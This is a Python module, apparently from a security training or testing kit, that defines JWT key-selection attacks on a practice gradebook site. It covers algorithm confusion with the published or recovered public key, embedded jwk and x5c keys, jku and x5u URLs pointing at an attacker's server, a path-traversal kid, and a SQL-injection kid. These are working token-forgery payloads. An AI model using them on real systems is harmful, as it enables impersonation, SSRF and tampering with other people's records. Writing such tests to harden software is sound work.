"""Attacks on who chooses the key: the token says which, or where it is, or brings it along."""

from collections.abc import Iterator
from typing import Any, Literal

from labkit.attacks.bearer import list_people, own_token, raise_own_grade, read_bobs_grade
from labkit.attacks.forged import as_carol, as_grace, first_breach, noting
from labkit.catalogue import Outcome, Verdict, attack, breached, held
from labkit.forging import (
    FORMS,
    Forgery,
    KeyNotRecovered,
    OwnKey,
    UnusableKey,
    recover_key,
    serve_keys,
)
from labkit.practice.surface import Site

OWN_TOKEN = "Mallory's own account, and its token"
PUBLIC_FILE = "static/gradebook.css"
HIGHEST = 4  # folders that lie between the keys and the public file, at most
MOST_COLUMNS = 3


@attack("T3", "Sign with the public key", start="Mallory's own token, and the published key set")
def sign_with_the_public_key(site: Site) -> Verdict:
    """Mallory takes the published key for an HS256 secret, in each form that a program keeps it in.

    Where the algorithm comes from the header, the site checks with the same public text.
    """
    keys = (site.client("mallory").get("/.well-known/jwks.json").json() or {}).get("keys")
    if not keys:
        return held("The site publishes no key.")
    token = as_grace(site)
    tries = (
        list_people(site, forged.token, f"With the published key ({form}) as secret")
        for key in keys
        for form, forged in _confused(token.edit_header(kid=key.get("kid")), key)
    )
    return first_breach(tries, "In no form does the public key serve as a secret.")


@attack("T3b", "Sign with a key that nobody showed", start="Two tokens of Mallory's own account")
def sign_with_a_recovered_key(site: Site) -> Verdict:
    """Mallory computes the public key from two signatures, and takes it for an HS256 secret.

    It is public although no key set says it: each signature leaves two candidates for the key that
    made it, and two signatures have one in common.
    """
    own, other = own_token(site), own_token(site)
    try:
        key = recover_key(own, other)
    except KeyNotRecovered as reason:
        return held(f"No key comes out of two signatures. {reason.cause}")
    token = Forgery.of(own).edit_claims(sub="carol", role="teacher")
    tries = (read_bobs_grade(site, forged.token) for _, forged in _confused(token, key))
    found = first_breach(tries, "In no form does the recovered key serve as a secret.")
    return noting(found, "The key she had computed from two tokens.")


@attack("T9", "Bring a key along", start=OWN_TOKEN)
def bring_a_key_along(site: Site) -> Verdict:
    """Mallory puts her own public key into the header (`jwk`), and signs with the private one."""
    forged = as_grace(site).embed_key(OwnKey.new("ES256"))
    return list_people(site, forged.token, "With a key of her own in the header")


@attack("T9b", "Bring a certificate along", start=OWN_TOKEN)
def bring_a_certificate_along(site: Site) -> Verdict:
    """Mallory issues herself a certificate, puts it into the header (`x5c`), and signs with it."""
    forged = as_carol(site).embed_certificate(OwnKey.new("ES256"))
    return read_bobs_grade(site, forged.token)


@attack("T10", "Say where the key is", start="Mallory's own token, and a server that is hers")
def say_where_the_key_is(site: Site) -> Verdict:
    """Mallory's header names her own key set (`jku`). Does the site come and fetch it?

    If it does, she also chooses what it asks for inside its own network: server-side request
    forgery (SSRF), whether or not the token is taken in the end.
    """
    return _point(site, as_carol(site), "jku", "key set")


@attack(
    "T10b", "Say where the certificate is", start="Mallory's own token, and a server that is hers"
)
def say_where_the_certificate_is(site: Site) -> Verdict:
    """The same with a certificate (`x5u`): as good an address to fetch as the other."""
    return _point(site, as_carol(site), "x5u", "certificate")


@attack("T11", "Name a file that everybody has", start="Mallory's own token, and the site's pages")
def name_a_public_file(site: Site) -> Verdict:
    """Mallory's `kid` leads out of the folder of keys to a style sheet: its bytes are the secret.

    `/dev/null` with an empty secret does as well, on a system that has it.
    """
    sheet = site.client("mallory").get(f"/{PUBLIC_FILE}")
    if not sheet.ok:
        return held(f"{sheet.status}: there is no public file whose bytes Mallory knows.")
    token = as_grace(site)
    tries = (
        list_people(site, forged.token, f"With the bytes of {kid} as secret")
        for kid, forged in _by_paths(token, sheet.body)
    )
    return first_breach(tries, "No path leads from the keys to a public file.")


@attack("T12", "Let the query answer the key", start=OWN_TOKEN)
def let_the_query_answer(site: Site) -> Verdict:
    """Mallory's `kid` ends the text in a query and adds a row of her own: the secret is "k"."""
    token = as_carol(site)
    for columns in range(1, MOST_COLUMNS + 1):
        row = ", ".join(["'k'"] * columns)
        forged = token.edit_header(kid=f"nobody' UNION SELECT {row} --").sign_with_secret(b"k")
        if raise_own_grade(site, forged.token):
            told = "The database gave out Mallory's word as the secret"
            return breached(f"{told}, and she gave herself 100 points as carol.")
    return held("What Mallory writes into the key's name reaches no query.")


def _confused(token: Forgery, key: dict[str, Any]) -> Iterator[tuple[str, Forgery]]:
    """Yield the token signed with each form of the public key; not every key has each form."""
    for form in FORMS:
        try:
            yield form, token.confuse(key, form)
        except UnusableKey:
            continue


def _by_paths(token: Forgery, secret: bytes) -> Iterator[tuple[str, Forgery]]:
    for up in range(HIGHEST):
        kid = "../" * up + PUBLIC_FILE
        yield kid, token.edit_header(kid=kid).sign_with_secret(secret)


def _point(site: Site, token: Forgery, member: Literal["jku", "x5u"], what: str) -> Verdict:
    with serve_keys(OwnKey.new("ES256")) as server:
        gained = read_bobs_grade(site, token.point_to(server, member).token)
        fetched = server.hits
    if not fetched:
        return gained
    told = f"The site fetched Mallory's {what} from her server."
    if gained.outcome is Outcome.BREACHED:
        return noting(gained, told)
    return breached(f"{told} It refused the token, but it goes where a stranger sends it.")
